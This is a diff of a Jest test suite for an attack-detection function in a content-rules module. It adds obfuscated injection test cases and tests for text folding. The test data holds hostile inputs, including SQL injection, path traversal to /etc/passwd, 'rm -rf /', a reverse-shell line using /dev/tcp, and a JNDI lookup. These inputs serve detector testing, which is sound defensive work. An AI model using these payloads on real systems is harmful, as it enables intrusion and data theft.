@@ -1,5 +1,6 @@
 import { describe, expect, it } from '@jest/globals';
-import { contentRules, detectRules } from './content-rules.js';
+import fc from 'fast-check';
+import { contentRules, detectRules, foldText } from './content-rules.js';
 
 const attacks: Readonly<Record<string, readonly string[]>> = {
   shell_injection: [
@@ -39,8 +40,17 @@ describe('content rules', () => {
     expect(detectRules(text).map((finding) => finding.category)).toContain(category);
   });
 
-  it.each(harmless)('see nothing in %j', (text) => {
+  it.each(harmless)('see nothing in %j (D-61)', (text) => {
     expect(detectRules(text)).toEqual([]);
+  });
+
+  it.each([
+    ['sql_injection', '%2527%2520OR%25201=1'], ['sql_injection', '&#39; or &#39;a&#39;=&#39;a'], ['sql_injection', '%u0027 or 1=1--'], ['sql_injection', "'\u200b or \u200b1=1"], ['sql_injection', 'uni/**/on/**/sel/**/ect 1,2'], ['sql_injection', '＇ ｏｒ １＝１－－'],
+    ['path_traversal', '%25252e%25252e/x'], ['path_traversal', '..%c0%afetc'], ['path_traversal', '．．／．．／．．／'], ['path_traversal', '&period;&period;&sol;&period;&period;&sol;etc/passwd'], ['path_traversal', '%00/../..%2f'],
+    ['shell_injection', '%0acat%20/etc/passwd'], ['shell_injection', "x;c'a't /etc/passwd"], ['shell_injection', '&#59; whoami'], ['shell_injection', 'x ； ｒｍ －ｒｆ ／'], ['shell_injection', 'a\u200b;\u200b whoami'], ['shell_injection', "['rm', '-fr', '/var']"], ['shell_injection', 'x | python'],
+    ['code_execution', '%7B%7B7*7%7D%7D'], ['code_execution', '＿＿ｉｍｐｏｒｔ＿＿（"os"）'], ['code_execution', 'e\u200bval(x)'], ['code_execution', '&#123;&#123;7*7}}'],
+  ])('see %s through the disguise of %j (D-66)', (category, text) => {
+    expect(detectRules(text).map((finding) => finding.category)).toContain(category);
   });
 
   it('point at the original text', () => {
@@ -51,12 +61,75 @@ describe('content rules', () => {
     expect(text.slice(first?.start, first?.end)).toContain('..%2f');
   });
 
-  it.each(['../', '; ', "' or ", 'rm ', '$(', '`', '|', '..%2f', 'eval(', ' union ', '/*', '\\\\a', ';--', '${IFS}', 'a', '\n', '>', '-- ', 'compile(a,', '%00'])('take time in proportion on %j', (part) => {
+  it('take a value that is an attack as one finding, without the space around it', () => {
+    expect(detectRules("  1' or 'a'='b \n", ['sql_injection'])).toEqual([{ kind: 'rule', category: 'sql_injection', start: 2, end: 14 }]);
+  });
+
+  it('look only for the categories asked for', () => {
+    const text = "../../etc/passwd; cat /etc/shadow' or 1=1--";
+
+    expect(new Set(detectRules(text, ['sql_injection']).map((finding) => finding.category))).toEqual(new Set(['sql_injection']));
+    expect(detectRules(text, [])).toEqual([]);
+    expect(detectRules(text).map((finding) => finding.category)).toEqual(expect.arrayContaining(['path_traversal', 'sql_injection', 'shell_injection']));
+  });
+
+  it('find an attack in a long text by what only attacks hold', () => {
+    const page = 'The quick brown fox jumps over the lazy dog, and this is all there is to say about it.\n'.repeat(100);
+
+    expect(detectRules(`${page} name=' or 'a'='a ${page}`).map((finding) => finding.category)).toEqual(['sql_injection']);
+    expect(detectRules(`${page} \${jndi:ldap://x.test/a} ${page}`).map((finding) => finding.category)).toEqual(['code_execution']);
+    expect(detectRules(`${page} bash -i >& /dev/tcp/10.0.0.1/80 ${page}`).map((finding) => finding.category)).toEqual(['shell_injection']);
+    expect(detectRules(`${page} ..%2f..%2fetc ${page}`)[0]?.category).toBe('path_traversal');
+    expect(detectRules(page)).toEqual([]);
+  });
+
+  it('answer with spans inside any text, in order', () => {
+    const part = fc.constantFrom("' or ", '1=1', '..%2f', '\ud800', '\udc00', '\0', '%27', '&#39;', '\u200b', ';', ' rm -rf /', '`id`', '$(', '{{7*7}}', '__proto__', 'é', '１', '\n', '%c0%af', '--', '/*', 'eval(x)');
+    fc.assert(fc.property(fc.array(fc.oneof(part, fc.string({ unit: 'binary' })), { maxLength: 12 }), (parts) => {
+      const text = parts.join('');
+      let last = 0;
+      for (const { start, end } of detectRules(text)) {
+        expect(start).toBeGreaterThanOrEqual(last);
+        expect(end).toBeGreaterThan(start);
+        expect(end).toBeLessThanOrEqual(text.length);
+        last = start;
+      }
+    }), { numRuns: 2000 });
+  });
+
+  it.each(['../', '; ', "' or ", 'rm ', '$(', '`', '|', '..%2f', 'eval(', ' union ', '/*', '\\\\a', ';--', '${IFS}', 'a', '\n', '>', '-- ', 'compile(a,', '%00', '{{', '${${', '../ ', "c'a't ", '{a,', '[', '\u200b\'', '1=1 or ', 'T(', '@@', '&#39;', '１', '<!--#', '0x2e', '\\'])('take time in proportion on %j', (part) => {
     const text = part.repeat(Math.ceil(100_000 / part.length));
     const before = process.cpuUsage();
     detectRules(text);
     const { user, system } = process.cpuUsage(before);
 
     expect((user + system) / 1000).toBeLessThan(3000);
+  });
+});
+
+describe('a folded text', () => {
+  it('is absent when there is no disguise', () => {
+    expect(foldText('')).toBeUndefined();
+    expect(foldText('plain & simple, 100% sure')).toBeUndefined();
+    expect(foldText('<b>x</b> naïve'.normalize('NFC'))).toBeUndefined();
+  });
+
+  it('tells which part of the original each part stands for', () => {
+    const text = 'a%2527b';
+    const folded = foldText(text);
+
+    expect(folded?.text).toBe("a'b");
+    expect(folded?.spanOf(1, 2)).toEqual([1, 6]);
+    expect(folded?.spanOf(0, 3)).toEqual([0, 7]);
+    expect(folded?.spanOf(1, 1)).toEqual([1, 1]);
+    expect(folded?.spanOf(3, 3)).toEqual([7, 7]);
+    expect(folded?.spanOf(-5, 99)).toEqual([0, 7]);
+  });
+
+  it('may be empty', () => {
+    const folded = foldText('\u200b\u200b');
+
+    expect(folded?.text).toBe('');
+    expect(folded?.spanOf(0, 0)).toEqual([0, 2]);
   });
 });
